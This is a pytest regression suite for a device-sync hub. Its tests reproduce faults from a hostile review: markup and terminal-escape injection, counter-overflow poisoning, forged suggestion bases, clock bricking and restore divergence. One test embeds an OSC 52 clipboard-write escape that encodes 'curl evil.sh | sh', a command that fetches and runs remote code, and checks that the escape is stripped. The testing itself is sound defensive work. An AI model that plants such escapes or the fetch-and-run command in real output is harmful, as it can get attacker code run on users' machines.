"""Faults a hostile review of issue 9 found ("No silent divergence, no poisoned tenant"): what a
device of the tenant, whoever holds the hub's database, or a careless restore could do. Each
test's docstring tells the fault as it was found; each test fails without its fix. They drive real
hub stores on both backends (through the same encode/decode the HTTP app does, see
:class:`Wire`), real vaults, and the CLI in a subprocess where the CLI is what broke.
"""

from __future__ import annotations

import io
import json
import os
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import msgspec
import pytest
from fastapi.testclient import TestClient

from truthvault.clock import HybridClock
from truthvault.crypto import Keyring
from truthvault.hub.app import HubSettings, create_app
from truthvault.hub.store import HubStore, Limits
from truthvault.model import (
    MAX_COUNTER,
    OriginStep,
    PullResponse,
    PushRequest,
    PushResponse,
    Record,
    SyncItem,
    decode_pull,
    decode_push,
    encode,
)
from truthvault.sync import HubClient, Syncer
from truthvault.sync._e2e import open_page, seal_batch
from truthvault.truth import record_id
from truthvault.vault import Vault, payload_of

from .stores import Devices, Limited, backup, records

AI = "ai-cloud:openai/gpt-4o"
_clock = HybridClock()


# -- helpers -------------------------------------------------------------------------------------
class Wire(Limited):
    """A store driven as the HTTP app drives it: a push body is encoded and decoded
    (``decode_push``, with its schema checks), a pull page is the store's raw bytes through
    ``decode_pull``, as :class:`HubClient` reads it."""

    def push(self, batch: PushRequest) -> PushResponse:
        return super().push(decode_push(encode(batch)))

    def pull(
        self,
        since: int,
        limit: int = 1000,
        wait: float = 0,
        tag: str | None = None,
        refused: object = None,
        tag_seq: int | None = None,
    ) -> PullResponse:
        page, bad = decode_pull(self.store.pull_raw(self.ctx, since, limit, tag, tag_seq))
        if isinstance(refused, list):
            refused.extend(bad)
        return page


def _wire(d: Devices) -> Devices:
    for name, token in d.tokens.items():
        d.syncers[name] = Syncer(d.vaults[name], Wire(d.store, token, d.limits))  # type: ignore[arg-type]

    def rewire() -> None:  # reopen() keeps the wire
        _wire(d)

    d._connect = rewire  # type: ignore[method-assign]
    return d


def _item(d: Devices, name: str, eid: str, payload: dict[str, Any], **over: Any) -> SyncItem:
    """A version as device ``name`` (a hostile one, speaking the protocol itself) would push it."""
    ctx = d.syncers[name].client.ctx  # type: ignore[attr-defined]
    fields: dict[str, Any] = dict(
        entity_type="note",
        entity_id=eid,
        tenant_id=ctx.tenant_id,
        truth_level=1,
        origin_source="user:cli",
        last_modified_at=_clock.now(),
        device_id=ctx.device_id,
        payload=msgspec.Raw(encode(payload)),
    )
    fields.update(over)
    return SyncItem(**fields)


_mutations: dict[int, int] = {}


def _push(d: Devices, name: str, *items: SyncItem, bases: list[SyncItem] | None = None) -> PushResponse:
    client = d.syncers[name].client
    for item in items:
        _mutations[id(client)] = item.mutation = _mutations.get(id(client), 1_000_000) + 1
    return client.push(PushRequest(items=list(items), bases=bases or []))


def _hub_ids(d: Devices, name: str) -> set[str]:
    ctx = d.syncers[name].client.ctx  # type: ignore[attr-defined]
    return {i.entity_id for i in d.store.pull(ctx, 0, 100_000).items if not i.deleted}


def _cli(vault: Vault, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "TRUTHVAULT_HOME": str(vault.home), "COLUMNS": "200", "TERM": "xterm"}
    env.pop("NO_COLOR", None)
    return subprocess.run(
        [sys.executable, "-m", "truthvault", *args], env=env, capture_output=True, text=True, timeout=120
    )


def _purge_all(d: Devices) -> int:
    return d.store.purge_tombstones(int(time.time() * 1000) + 60_000)


# == 1. What a device can push that the hub takes and that then breaks another device ===========
def test_list_and_suggestions_show_text_that_looks_like_markup(devices: Callable[..., Devices]) -> None:
    """A note (or an AI's suggestion) whose text holds "[/]" is stored everywhere, and then
    `list`, `search`, `suggestions` and `show` fail on every device of the tenant with
    "internal error: MarkupError": the CLI prints payload text through Rich markup."""
    d = _wire(devices("a", "b"))
    a, b = d.vaults["a"], d.vaults["b"]
    eid = a.put("note", {"text": "arrays: use arr[/] here"}).item.entity_id
    d.syncers["a"].sync()
    d.syncers["b"].sync()
    b.edit(eid, {"text": "the AI says [/] too"}, source=AI)  # a suggestion
    d.syncers["b"].sync()
    d.syncers["a"].sync()
    for args in (("list",), ("search", "arrays"), ("suggestions",), ("show", eid)):
        result = _cli(a, *args)
        assert result.returncode == 0, (args, result.stderr)
        assert "[/]" in result.stdout, args


def test_show_survives_odd_writer_fields_from_another_device(devices: Callable[..., Devices]) -> None:
    """device_id, origin_chain[].at and .ref are free text (up to 200 characters, or unbounded for
    ref) that the hub takes from any device of the tenant; `show` prints them through Rich markup,
    so one pushed version with device_id "[/]" makes `show` fail on every device."""
    d = _wire(devices("evil", "victim"))
    step = OriginStep(level=3, source="ai-local:m", at="[/]", ref="[/]")
    response = _push(d, "evil", _item(d, "evil", "e1", {"text": "hi"}, device_id="[/]", origin_chain=(step,)))
    assert [r.outcome for r in response.results] == ["applied"]
    d.syncers["victim"].sync()
    result = _cli(d.vaults["victim"], "show", "e1")
    assert result.returncode == 0, result.stderr
    assert "by device [/]" in result.stdout


def test_terminal_escapes_from_synced_fields_never_reach_the_terminal(
    devices: Callable[..., Devices],
) -> None:
    """ESC sequences in a pulled device_id or payload reach the terminal raw through `show` and
    `list` (Rich strips only BEL, BS, VT, FF, CR): any device or AI of the tenant can set the
    window title, clear the screen, plant OSC 8 links or (on some terminals) write the clipboard
    (OSC 52) on the user's terminal."""
    d = _wire(devices("evil", "victim"))
    osc52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
    _push(d, "evil", _item(d, "evil", "e1", {"title": f"hello{osc52}"}, device_id=f"d\x1b[2J{osc52}"))
    d.syncers["victim"].sync()
    for args in (("show", "e1"), ("list",)):
        result = _cli(d.vaults["victim"], *args)
        assert result.returncode == 0, result.stderr
        assert "\x1b]52" not in result.stdout and "\x1b[2J" not in result.stdout, args


def test_an_entity_at_the_largest_version_can_still_be_edited_and_synced(
    devices: Callable[..., Devices],
) -> None:
    """The hub takes a version of exactly MAX_COUNTER (2**53 - 1); every device's next edit is
    version 2**53, which the hub refuses ("items[0].version: Expected int <= 9007199254740991").
    One pushed item poisons the entity for the whole tenant: no edit of it ever syncs again."""
    d = _wire(devices("evil", "victim"))
    big = _item(d, "evil", "e1", {"t": "x"}, version=MAX_COUNTER, base_version=MAX_COUNTER - 1)
    assert [r.outcome for r in _push(d, "evil", big).results] == ["applied"]
    d.syncers["victim"].sync()
    victim = d.vaults["victim"]
    victim.edit("e1", {"t": "my edit"})
    stats = d.syncers["victim"].sync()
    assert stats.refused_pushes == []
    assert stats.diverged == []


def test_a_batch_over_the_hubs_body_limit_does_not_jam_the_queue(hub_store: HubStore, tmp_path: Path) -> None:
    """Every payload is within max_payload_bytes, but the batch together is over the hub's body
    limit: the hub answers 413 without an item index, Syncer.push re-raises, and every later sync
    fails the same way (the queue is never split), so nothing this device writes is ever pushed.
    With the defaults (1 MiB payloads, 64 MiB bodies, 1000-item batches) 65 large notes do it;
    a hostile device needs one version whose origin_chain (not limited at all) is near 64 MiB,
    which every device re-pushes with its next edit. Scaled down here."""
    hub_store.add_tenant("t", "cloud_first")
    device, token = hub_store.add_device("t", "a")
    tenant = hub_store.get_tenant("t")
    settings = HubSettings(limits=Limits(max_payload_bytes=8000), max_body_bytes=30_000)
    vault = Vault.open(tmp_path / "a", source="user:cli")
    with TestClient(create_app(hub_store, settings)) as http:
        client = HubClient("http://testserver", token, transport=http._transport)
        vault.replica.join(
            hub_url="http://testserver",
            token=token,
            tenant_id=tenant.id,
            tenant_name="t",
            device_id=device.id,
            vault_mode="cloud_first",
        )
        syncer = Syncer(vault, client)
        for n in range(5):
            vault.put("note", {"t": str(n) * 7000})  # 7 kB each: each one within the limit
        try:
            syncer.sync()
            vault.put("note", {"t": "written later"})
            syncer.sync()
            assert vault.replica.pending_count() == 0
        finally:
            client.close()
            vault.close()


# == 1b. Bases, records and clocks ===============================================================
def test_the_hub_keeps_the_real_base_of_a_suggestion_not_a_forged_one(
    devices: Callable[..., Devices],
) -> None:
    """A device pushes a suggestion with, in `bases`, a "base" that has the right entity, version
    and clock but another writer and other content. The hub prefers what the device sent over
    the version it holds itself (`_base_of` tries `bases` first and compares neither writer nor
    content), every device keeps it, and `accept` three-way merges from it: here it silently
    reverts the title the user changed after the suggestion was made."""
    d = _wire(devices("a", "evil"))
    a = d.vaults["a"]
    v = a.put("note", {"title": "T", "amount": 5}).item
    d.syncers["a"].sync()
    d.syncers["evil"].sync()
    suggestion = _item(
        d,
        "evil",
        v.entity_id,
        {"title": "T", "amount": 5, "note": "looks harmless"},
        truth_level=3,
        origin_source="ai-local:m",
        version=v.version + 1,
        base_version=v.version,
        base_clock=v.last_modified_at,
    )
    forged = msgspec.structs.replace(
        v, payload=msgspec.Raw(encode({"title": "OLD", "amount": 5})), device_id="x"
    )
    assert [r.outcome for r in _push(d, "evil", suggestion, bases=[forged]).results] == ["suggestion"]
    [record] = d.store.list_records(d.syncers["a"].client.ctx)  # type: ignore[attr-defined]
    assert record.base is not None
    assert (record.base.device_id, payload_of(record.base)) == (v.device_id, {"title": "T", "amount": 5})
    a.edit(v.entity_id, {"title": "T2 (the user's later edit)"})
    d.syncers["a"].sync()
    [sug] = a.suggestions()
    accepted = a.accept(sug.id)
    assert payload_of(accepted)["title"] == "T2 (the user's later edit)"


def test_a_pulled_far_future_stamp_does_not_brick_local_writes(
    devices: Callable[..., Devices], hub_sql: Callable[..., list[Any]]
) -> None:
    """A device takes in pulled stamps up to NO_CLOCK_LIMIT (9999-12-31T23:59:59.999Z-ffff) and
    observes them. Whoever holds the hub's database (or a hub run with a huge --max-clock-skew)
    serves one such version: the device's clock is persisted at that stamp and its next stamp is
    in the year 10000, so every local write fails (ValueError), offline too, forever."""
    d = _wire(devices("a", "b"))
    d.vaults["a"].put("note", {"t": "x"})
    d.syncers["a"].sync()
    [(wire,)] = hub_sql("SELECT wire FROM entities")
    stored = json.loads(bytes(wire))
    stored["last_modified_at"] = "9999-12-31T23:59:59.999Z-ffff"
    hub_sql("UPDATE entities SET wire = ?", (json.dumps(stored).encode(),))
    d.syncers["b"].sync()
    d.vaults["b"].put("note", {"t": "written offline, later"})


def test_a_pulled_conflict_record_must_keep_a_user_version(tmp_path: Path) -> None:
    """In a local-first tenant the seal binds every truth field of a record's item, but nothing
    binds or checks the record itself: kind, status, resolution. Whoever holds the hub's database
    can serve an AI's sealed suggestion as a *conflict* ("the losing user version"); it opens,
    `_checked_record` takes it, `conflicts` lists it and `--restore` makes the AI's text U1."""
    tenant = "tenant-1"
    ring = Keyring.new()
    vault = Vault.open(tmp_path / "v", source="user:cli")
    vault.replica.join("store://", "token", tenant, "t", "dev-v", "local_first")
    ai = SyncItem(
        entity_type="note",
        entity_id="e1",
        tenant_id=tenant,
        truth_level=5,
        origin_source=AI,
        last_modified_at=_clock.now(),
        device_id="dev-ai",
        payload=msgspec.Raw(encode({"text": "the AI's text"})),
        last_modified_by_level=5,
    )
    [sealed] = seal_batch(PushRequest(items=[ai]), ring, tenant).items
    record = Record(
        kind="conflict",  # the hub's database says so; the item is a level-5 suggestion
        id=record_id("e1", ai.last_modified_at, "dev-ai"),
        entity_id="e1",
        entity_type="note",
        status="open",
        item=sealed,
        created_at="2026-01-01T00:00:00.000Z",
    )
    page = PullResponse(items=[], records=[record], cursor=1, has_more=False, head=1)
    opened, failed = open_page(page, ring, tenant)
    assert failed == []
    try:
        vault.replica.apply_pull(opened)
        assert vault.conflicts() == [], "a conflict record whose version is not level 1 was taken in"
    finally:
        vault.close()


# == 3. Divergence that is never reported, or never heals =======================================
def test_hub_restore_does_not_eat_the_devices_unpushed_edit(devices: Callable[..., Devices]) -> None:
    """`POST /v1/sync/conflict-resolve` with restore writes a new version under the *requesting
    device's* id, stamped with the hub's clock; that device never held it. Its own edit, made
    before (queued), is then taken as "built on" by the hub's version (same device, earlier
    clock): the hub answers `superseded` and keeps nothing, the device takes the restore over it
    as its own successor. The edit is gone on every replica and the sync reports nothing."""
    d = _wire(devices("a", "b"))
    a, b = d.vaults["a"], d.vaults["b"]
    eid = a.put("note", {"t": "base"}).item.entity_id
    d.syncers["a"].sync()
    d.syncers["b"].sync()
    a.edit(eid, {"t": "a"})
    time.sleep(0.003)
    b.edit(eid, {"t": "b"})
    for name in ("a", "b", "a", "b"):
        d.syncers[name].sync()
    [conflict] = a.conflicts()
    a.edit(eid, {"t": "a's newest edit, not pushed yet"})
    time.sleep(0.003)
    # what the hub app does for that request (app.py: store.resolve_conflict(..., clock.now()))
    d.store.resolve_conflict(d.syncers["a"].client.ctx, conflict.id, "restore", HybridClock().now())  # type: ignore[attr-defined]
    d.syncers["a"].sync()
    d.syncers["b"].sync()
    kept = [payload_of(b.get(eid)), *(payload_of(r.item) for r in b.records(status=None))]
    assert {"t": "a's newest edit, not pushed yet"} in kept


def test_a_restored_vault_copy_gets_every_new_change_to_the_hub(
    devices: Callable[..., Devices], tmp_path: Path
) -> None:
    """The vault file is restored from a backup (its mutation numbers go back), then the user
    writes 8 notes. Their numbers partly fall at or below the hub's last_mutation for this device:
    the hub answers those `duplicate`, the vault sees the renumbering signal only when
    last_mutation is above *every* number sent, so it acknowledges them and never sends them
    again. 5 of the 8 never leave this device (and 'sync resync', which the divergence hint
    recommends, would then delete them here too)."""
    d = _wire(devices("a", "b"))
    a = d.vaults["a"]
    a.put("note", {"t": "first"})
    d.syncers["a"].sync()
    backup = tmp_path / "vault-backup.db"
    with closing(sqlite3.connect(backup)) as copy:
        a._db.conn.backup(copy)
    for n in range(5):
        a.put("note", {"t": f"before the restore {n}"})
    d.syncers["a"].sync()
    a.close()
    with closing(sqlite3.connect(backup)) as copy, closing(sqlite3.connect(a.path)) as live:
        copy.backup(live)
    a = d.vaults["a"] = Vault.open(a.home, source="user:cli")
    d.syncers["a"] = Syncer(a, Wire(d.store, d.tokens["a"], d.limits))  # type: ignore[arg-type]
    new = {a.put("note", {"t": f"after the restore {n}"}).item.entity_id for n in range(8)}
    d.syncers["a"].sync()
    assert new - _hub_ids(d, "a") == set()


def test_a_hub_restore_that_lost_a_pushed_change_is_detected(devices: Callable[..., Devices]) -> None:
    """A device pushes (`truthvault sync push`, or a sync whose pull failed after its push) and
    the hub is then restored from a backup taken before that push. The device's cursor is still
    inside the restored history and its tag matches, so no `hub_reset`: the change is marked as
    held by the hub, never sent again, and the sync only says "diverged"."""
    d = _wire(devices("a"))
    a = d.vaults["a"]
    a.put("note", {"t": "x"})
    d.syncers["a"].sync()
    with backup(d.url) as restore:
        lost = a.put("note", {"t": "pushed after the backup"}).item.entity_id
        d.syncers["a"].push()
        d.store.close()
        restore()
        d.reopen()
    stats = d.syncers["a"].sync()
    assert lost in _hub_ids(d, "a")
    assert stats.diverged == []


def test_resync_after_a_hub_restore_deletes_nothing_the_hub_lost(devices: Callable[..., Devices]) -> None:
    """After a hub restore, a user's `truthvault sync resync` (what `sync check` and a diverged
    sync tell the user to run) starts from cursor 0 with no tag, so the reset is never noticed:
    `finish_resync` drops every entity the hub no longer has as if it had been purged. The note
    written after the backup is deleted from the device, the last replica holding it, and the
    following sync reports `diverged == []`."""
    d = _wire(devices("a"))
    a = d.vaults["a"]
    a.put("note", {"t": "x"})
    d.syncers["a"].sync()
    with backup(d.url) as restore:
        lost = a.put("note", {"t": "written after the backup"}).item.entity_id
        d.syncers["a"].sync()
        d.store.close()
        restore()
        d.reopen()
    d.syncers["a"].resync()
    d.syncers["a"].push()
    assert payload_of(a.get(lost)) == {"t": "written after the backup"}


def test_after_a_purge_a_lower_level_write_does_not_replace_the_users_delete(
    devices: Callable[..., Devices],
) -> None:
    """The user deletes an entity (a U1 tombstone); the hub purges the tombstone. A device that
    never held it (joined or re-synced since) lets an AI write that id: the hub has no current
    version, applies it, and it is current at the hub and on every new device, while devices
    that still hold the tombstone keep it (it outranks the AI). Invariant 1 is broken at the hub
    and the replicas never converge: `diverged` is reported on every sync, forever, and a
    resync cannot fix it."""
    d = _wire(devices("a", "c"))
    a, c = d.vaults["a"], d.vaults["c"]
    a.put("settings", {"theme": "dark"}, entity_id="settings")
    d.syncers["a"].sync()
    a.delete("settings")
    d.syncers["a"].sync()
    assert _purge_all(d) == 1
    d.syncers["c"].sync()  # c never saw the tombstone
    c.put("settings", {"theme": "the AI's pick"}, entity_id="settings", source=AI)
    for _ in range(2):
        stats_a, stats_c = d.syncers["a"].sync(), d.syncers["c"].sync()
    assert stats_a.diverged == [] and stats_c.diverged == []
    assert a.get("settings", include_deleted=True).deleted == c.get("settings", include_deleted=True).deleted


def test_a_refused_suggestion_with_a_decision_does_not_blind_the_divergence_check(
    devices: Callable[..., Devices], hub_sql: Callable[..., list[Any]]
) -> None:
    """The hub refuses a kept suggestion (too large) that the user had already rejected: the item
    goes aside, but its decision stays queued (push_decision = 1) and is never sent (the hub has
    not the record). pending_count() stays 1 forever, so Syncer.sync never compares checksums
    again and `sync check` never says in sync: a real divergence afterwards goes unreported."""
    d = _wire(devices("a", limits=Limits(max_payload_bytes=300)))
    a, sync = d.vaults["a"], d.syncers["a"]
    eid = a.put("note", {"t": "mine"}).item.entity_id
    sync.sync()
    rid = a.edit(eid, {"t": "x" * 400}, source=AI).record_id
    assert rid is not None
    a.reject(rid)
    assert len(sync.sync().refused_pushes) == 1
    hub_sql("UPDATE tenants SET checksum = checksum + 1")  # the hub and this device now differ
    assert sync.sync().diverged == ["entities"]


def test_a_refused_version_is_kept_when_another_devices_version_arrives(
    devices: Callable[..., Devices],
) -> None:
    """The hub refuses a's edit (over its size limit); a keeps it aside. b then edits the same
    entity. When a pulls b's version, a's refused version loses and is dropped: the entity was
    hub_known, so `_keep_pulled_loss` keeps nothing; `retry_refused` then answers False and
    forgets the refusal. The user's U1 edit is gone, with no conflict record anywhere."""
    d = _wire(devices("a", "b", limits=Limits(max_payload_bytes=300)))
    a, b = d.vaults["a"], d.vaults["b"]
    eid = a.put("note", {"t": "v1"}).item.entity_id
    d.syncers["a"].sync()
    d.syncers["b"].sync()
    a.edit(eid, {"t": "a's long edit " + "x" * 300})
    assert len(d.syncers["a"].sync().refused_pushes) == 1
    time.sleep(0.003)
    b.edit(eid, {"t": "b's edit"})
    d.syncers["b"].sync()
    d.syncers["a"].sync()
    kept = [payload_of(a.get(eid)), *(payload_of(r.item) for r in a.records(status=None))]
    assert any(k["t"].startswith("a's long edit") for k in kept)


def test_an_import_into_a_stale_vault_keeps_no_record_the_hub_never_has(
    devices: Callable[..., Devices],
) -> None:
    """a imports (from an old export) a version of an entity it holds at v1, while the hub already
    has b's v2. The import keeps v1 as a conflict record marked `hub_known` (import's
    `cur.hub_known and cur.mutation is None`); the hub, which resolves the import against v2,
    keeps v2 instead and never has v1's record. a reports `diverged: records` on every sync,
    forever; b and the hub never get that record."""
    d = _wire(devices("a", "b"))
    a, b = d.vaults["a"], d.vaults["b"]
    v1 = a.put("note", {"t": "v1"}).item
    d.syncers["a"].sync()
    d.syncers["b"].sync()
    b.edit(v1.entity_id, {"t": "v2 by b"})
    d.syncers["b"].sync()
    old = msgspec.structs.replace(
        v1,
        payload=msgspec.Raw(encode({"t": "from an old export"})),
        last_modified_at=_clock.now(),
        device_id="old-laptop",
        version=7,
        base_version=6,
        base_clock=None,
    )
    a.import_jsonl(io.BytesIO(encode(old) + b"\n"))
    for _ in range(2):
        stats_a, stats_b = d.syncers["a"].sync(), d.syncers["b"].sync()
    assert stats_a.diverged == [] and stats_b.diverged == []
    assert records(a) == records(b) == d.hub_records()


@pytest.mark.xfail(
    strict=True,
    reason="known limitation: after a hub reset the hub no longer has the versions between, so a "
    "version made on one of them cannot be told from a race and is kept as a conflict (nothing "
    "is lost; the user resolves it)",
)
def test_a_hub_reset_makes_no_conflict_out_of_an_ordinary_edit_chain(devices: Callable[..., Devices]) -> None:
    """v1 (b) -> v2 (b) -> v3 (a, made on v2): an ordinary chain of edits, no race. The hub is
    restored to v1; the devices send v3 again, which names v2 as its base, not v1, so the hub
    keeps v1 as a U1-vs-U1 *conflict* that never happened, on every device (a false alarm the
    user has to resolve)."""
    d = _wire(devices("a", "b"))
    a, b = d.vaults["a"], d.vaults["b"]
    eid = b.put("note", {"t": "v1"}).item.entity_id
    d.syncers["b"].sync()
    d.syncers["a"].sync()
    with backup(d.url) as restore:
        b.edit(eid, {"t": "v2 by b"})
        d.syncers["b"].sync()
        d.syncers["a"].sync()
        a.edit(eid, {"t": "v3 by a"})
        d.syncers["a"].sync()
        d.syncers["b"].sync()
        assert a.conflicts() == [] and b.conflicts() == []
        d.store.close()
        restore()
        d.reopen()
    for name in ("a", "b", "a", "b"):
        d.syncers[name].sync()
    assert payload_of(a.get(eid)) == payload_of(b.get(eid)) == {"t": "v3 by a"}
    assert a.conflicts() == [] and b.conflicts() == []


def test_a_push_that_meets_the_purge_horizon_resyncs_and_pushes_in_one_sync(
    devices: Callable[..., Devices],
) -> None:
    """b was offline past the tombstone retention and wrote a note. Its push gets
    `resync_required`, Syncer.push re-syncs and sends the same batch again, and the loop's
    "did not advance" guard (its `previous` fingerprint is not reset after a resync or a hub
    reset) raises StorageError: "the push queue did not advance after the hub acknowledged a
    batch", which the hub never did. `sync now` fails (exit 1) with a message about storage."""
    d = _wire(devices("a", "b"))
    a, b = d.vaults["a"], d.vaults["b"]
    doomed = a.put("note", {"t": "x"}).item.entity_id
    d.syncers["a"].sync()
    d.syncers["b"].sync()
    a.delete(doomed)
    d.syncers["a"].sync()
    assert _purge_all(d) == 1
    fresh = b.put("note", {"t": "written offline"}).item.entity_id
    stats = d.syncers["b"].sync()
    assert stats.resynced and fresh in _hub_ids(d, "b")
